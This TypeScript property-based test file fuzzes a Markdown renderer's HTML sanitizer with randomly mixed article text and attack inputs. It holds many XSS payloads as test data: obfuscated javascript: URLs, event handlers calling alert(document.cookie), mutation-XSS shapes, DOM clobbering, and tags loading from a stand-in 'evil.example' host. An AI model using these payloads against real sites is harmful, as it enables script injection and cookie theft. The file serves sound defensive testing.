import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, it } from 'vitest';

import { checkArticleHtml } from '../../src/security/html-safety.ts';
import { renderMarkdown } from '../support/markdown.ts';

/**
 * Property: whatever Markdown an article holds, mixed in any order with any
 * of the attack families, the HTML the project's Markdown module returns
 * passes the content rules (no script, handler, dangerous URL, forbidden
 * element, style attribute, unprefixed or repeated id), and the text inside a
 * `<style>` or `<script>` never shows up outside a code sample.
 */

const CANARY = 'CANARYTEXT';

const word = fc.constantFrom('Tokyo', 'talks', 'summit', 'Abe', 'Putin', 'islands', 'June', '北方領土', 'سلام', '🇯🇵');
const sentence = fc.array(word, { minLength: 1, maxLength: 6 }).map((words) => words.join(' '));
const safeUrl = fc.constantFrom(
  'https://example.org/a',
  'http://example.org/',
  '/topics/',
  '../x',
  'mailto:a@example.org',
);

/** Benign Markdown: the things real articles contain. */
const benign = fc.oneof(
  sentence,
  sentence.map((s) => `*${s}*`),
  sentence.map((s) => `**${s}**`),
  sentence.map((s) => `\`${s}\``),
  fc.tuple(sentence, safeUrl).map(([s, url]) => `[${s}](${url})`),
  fc.tuple(sentence, safeUrl).map(([s, url]) => `![${s}](${url})`),
  sentence.map((s) => `## ${s}`),
  sentence.map((s) => `- ${s}`),
  sentence.map((s) => `> ${s}`),
  sentence.map((s) => `| ${s} | x |\n| --- | --- |\n| 1 | 2 |`),
  fc.constantFrom('A note[^1].\n\n[^1]: The note.', 'H<sub>2</sub>O', 'x<sup>2</sup>', '<abbr title="t">T</abbr>'),
);

/** `javascript:` spelled the ways filters get fooled. */
const scriptScheme = fc.constantFrom(
  'javascript:',
  'JAVASCRIPT:',
  'JaVaScRiPt:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#x6A&#x61vascript:',
  '&#0000106avascript:',
  'java&#x09;script:',
  'java&#x0A;script:',
  ' \tjavascript:',
  '\u2028javascript:',
  'java\u0000script:',
  '&#x01;javascript:',
  'vbscript:',
  'VBSCRIPT:',
  'data:text/html,',
  'data:text/html;base64,',
  'file://',
);
const payload = fc.constantFrom('alert(1)', 'alert(document.cookie)', '%3Cscript%3E');

const hostileUrl = fc.tuple(scriptScheme, payload).map(([scheme, code]) => scheme + code);

/** Every family of vector from the issue, each in several shapes. */
const closedVectors = [
  // Links and images in every Markdown form.
  hostileUrl.map((url) => `[click](${url})`),
  hostileUrl.map((url) => `[click](<${url}>)`),
  hostileUrl.map((url) => `![img](${url})`),
  hostileUrl.map((url) => `[ref][r]\n\n[r]: ${url}`),
  hostileUrl.map((url) => `<${url}>`),
  // The same in raw HTML attributes.
  fc
    .tuple(
      fc.constantFrom(
        'a href',
        'img src',
        'iframe src',
        'form action',
        'button formaction',
        'object data',
        'embed src',
        'blockquote cite',
        'img srcset',
      ),
      hostileUrl,
    )
    .map(([tagAttr, url]) => {
      const [tag] = tagAttr.split(' ');
      return `<${tagAttr}="${url}">x</${tag}>`;
    }),
  // Scripts.
  fc.constantFrom(
    `<script>${CANARY}</script>`,
    `<SCRIPT>${CANARY}</SCRIPT>`,
    `<scr<script>ipt>alert(1)</scr</script>ipt>`,
    `<script><script>${CANARY}</script></script>`,
    `<script src="https://evil.example/x.js"></script>`,
    `<script type="module">import "https://evil.example/${CANARY}";</script>`,
  ),
  // Handlers on any element.
  fc
    .tuple(
      fc.constantFrom(
        'img src=x',
        'details open',
        'input autofocus',
        'div tabindex=0',
        'svg',
        'body',
        'a href="/x"',
        'p',
        'video src=x',
      ),
      fc.constantFrom('onerror', 'onload', 'ontoggle', 'onfocus', 'ONCLICK', 'onmouseover', 'onanimationstart'),
    )
    .map(([open, handler]) => `<${open} ${handler}="alert(1)">x</${open.split(' ')[0]}>`),
  // Style attributes.
  fc
    .constantFrom('url(javascript:alert(1))', 'expression(alert(1))', 'behavior:url(x.htc)')
    .map((css) => `<p style="background:${css}">x</p>`),
  // DOM clobbering.
  fc
    .tuple(fc.constantFrom('id', 'name'), fc.constantFrom('location', 'cookie', 'forms', 'document', 'top', 'alert'))
    .map(([attribute, name]) => `<img ${attribute}="${name}" src="/a.png" alt="x"><a ${attribute}="${name}">x</a>`),
  fc.constantFrom('location', 'cookie', 'forms').map((name) => `## ${name}`),
  // Raw-text elements, closed or left open: either way they end with their paragraph.
  fc.constantFrom(
    `<style>body{background:url(javascript:alert(1))} ${CANARY}</style>`,
    `<style>a{background:url(https://evil.example/)} ${CANARY} *x*</style>`,
    `inline <style>${CANARY} never closed`,
    `inline <textarea>${CANARY} *x* never closed`,
    `<title>${CANARY}`,
  ),
];

/**
 * Shapes that leave foreign content (`<svg>`, `<math>`) or a form open. Like
 * a browser, the HTML parser reads the rest of the article into them, and the
 * sanitizer drops them whole: unsafe nothing, but later text can go with them.
 */
const unclosedVectors = [
  // Foreign content and mutation shapes.
  fc.constantFrom(
    '<svg onload=alert(1)>',
    `<svg><script>${CANARY}</script></svg>`,
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
  ),
  // Embedded documents and page-wide tags.
  fc.constantFrom(
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x"></object>',
    '<embed src="https://evil.example/x">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
  ),
  // At the start of a line these begin an HTML block that CommonMark runs to the end of the file.
  fc.constantFrom(`<style>${CANARY} never closed`, `<textarea>${CANARY} never closed`, `<script>${CANARY}`),
];

const hostile = fc.oneof(...closedVectors, ...unclosedVectors);

const separator = fc.constantFrom(' ', '\n', '\n\n', '\n\n> ', '\n\n- ', '\n\n1. ', ' *', '* ', '\n\n| a |\n| - |\n| ');
const document = fc
  .array(fc.tuple(fc.oneof(benign, hostile), separator), { minLength: 1, maxLength: 12 })
  .map((parts) => parts.map(([piece, sep]) => piece + sep).join(''));

/** Text of the output outside `<code>`, where a script's or style's source must never appear. */
function textOutsideCode(html: string): string {
  const walk = (node: DefaultTreeAdapterTypes.ChildNode): string => {
    if (node.nodeName === '#text') return (node as { value: string }).value;
    if (node.nodeName === 'code') return '';
    return 'childNodes' in node ? node.childNodes.map(walk).join('') : '';
  };
  return parseFragment(html).childNodes.map(walk).join('');
}

describe('any mix of Markdown and attack vectors', () => {
  it('renders to HTML that passes every content rule and leaks no script or style text', async () => {
    await fc.assert(
      fc.asyncProperty(document, async (markdown) => {
        const html = await renderMarkdown(markdown);
        expect(checkArticleHtml(html), `unsafe output for:\n${markdown}\n---\n${html}`).toEqual([]);
        expect(textOutsideCode(html), `script or style text leaked for:\n${markdown}`).not.toContain(CANARY);
      }),
      { numRuns: 300 },
    );
  }, 60_000);

  it('keeps the text written before any vector', async () => {
    await fc.assert(
      fc.asyncProperty(sentence, hostile, separator, async (text, vector, sep) => {
        const html = await renderMarkdown(`${text}\n\n${vector}${sep}`);
        const shown = textOutsideCode(html).replace(/\s+/g, ' ');
        expect(shown, `the text before the vector was lost:\n${vector}\n---\n${html}`).toContain(text);
      }),
      { numRuns: 200 },
    );
  }, 60_000);

  it('keeps the text written after a vector that closes (or ends with its paragraph)', async () => {
    await fc.assert(
      fc.asyncProperty(sentence, fc.oneof(...closedVectors), separator, async (text, vector, sep) => {
        const html = await renderMarkdown(`${vector}${sep}\n\n${text}`);
        const shown = textOutsideCode(html).replace(/\s+/g, ' ');
        expect(shown, `the text after the vector was lost:\n${vector}\n---\n${html}`).toContain(text);
      }),
      { numRuns: 200 },
    );
  }, 60_000);
});
